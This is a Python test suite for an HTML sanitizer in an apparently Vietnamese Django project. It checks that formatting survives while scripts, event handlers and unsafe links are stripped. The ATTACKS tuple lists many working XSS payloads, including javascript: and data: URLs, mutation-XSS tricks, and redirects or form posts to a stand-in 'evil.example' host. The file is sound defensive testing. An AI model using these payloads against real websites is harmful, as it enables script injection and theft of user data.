"""Formatted text keeps its format and nothing that runs, loads, submits, covers or points elsewhere in secret."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from django.template import Context, Template
from hypothesis import given, settings
from hypothesis import strategies as st

from nscl.foundation.rich_text import ATTRIBUTES, SCHEMES, TAGS, clean, is_empty

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example' target=_blank onclick=alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<form action=//evil.example><input name=a><button>x</button></form>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<p id=noi-dung class=btn-primary name=x>x</p>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p><<script>alert(1)//<</script>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=x onfocus=alert(1) autofocus>x</a>",
    "<table background=javascript:alert(1)><td background=x>x</td></table>",
    "<p\x00 onclick=alert(1)>x</p>",
    '<p title="<img src=x onerror=alert(1)>" lang="vi">x</p>',
    '<svg onload=alert(1)><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
)  # fmt: skip


class Seen(HTMLParser):
    """Every element, attribute and address in a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.found.append(("!--", {}))


def harmless(html: str) -> bool:
    for tag, attributes in Seen(html).found:
        allowed = ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        if tag not in TAGS or not set(attributes) <= allowed:
            return False
        scheme, colon, _rest = (attributes.get("href") or "").strip().partition(":")
        if colon and scheme.lower() not in SCHEMES and "/" not in scheme and "?" not in scheme and "#" not in scheme:
            return False
    return True


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_leave_nothing_that_runs(attack: str) -> None:
    kept = clean(f"<p>trước</p>{attack}<p>sau</p>")
    assert harmless(kept), kept
    assert "<p>trước</p>" in kept
    assert clean(kept) == kept


PIECES = st.sampled_from(
    [
        *ATTACKS,
        *(
            "<p>",
            "</p>",
            "<a href=",
            "'",
            '"',
            ">",
            "<",
            "&lt;",
            "&#x3c;",
            "on",
            "=",
            "\x00",
            "<table>",
            "<td>",
            "</table>",
        ),
        *("<b>", "<!--", "-->", "javascript:", "https://a.vn", " "),
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(PIECES, st.text(max_size=12)), max_size=14).map("".join))
def test_whatever_is_written_what_is_kept_is_harmless_and_stays(html: str) -> None:
    kept = clean(html)
    assert harmless(kept), kept
    assert clean(kept) == kept


def test_format_is_kept() -> None:
    html = (
        "<h3>Thông báo</h3><p>Nộp <strong>trước</strong> 30/11 &amp; gửi "
        '<a href="https://example.vn/?a=1&amp;b=2" rel="noopener noreferrer nofollow">bản giấy</a>.</p>'
        '<ol start="2"><li>Một</li></ol>'
        '<table><tbody><tr><th scope="col">A</th><td colspan="2">B</td></tr></tbody></table>'
    )
    assert clean(html) == html


def test_words_of_an_unknown_element_stay() -> None:
    assert clean("<blink>Chữ <font color=red>đỏ</font></blink>") == "Chữ đỏ"


@pytest.mark.parametrize(("html", "empty"), [("<p> &nbsp; </p>", True), ("<p>a</p>", False), ("", True)])
def test_nothing_to_read(html: str, empty: bool) -> None:
    assert is_empty(html) is empty


def test_a_template_cleans_what_it_shows() -> None:
    drawn = Template("{{ text|rich_text }}").render(Context({"text": "<b>a</b><script>b</script>"}))
    assert drawn == "<b>a</b>"
    assert Template("{{ text|rich_text }}").render(Context({"text": None})) == ""
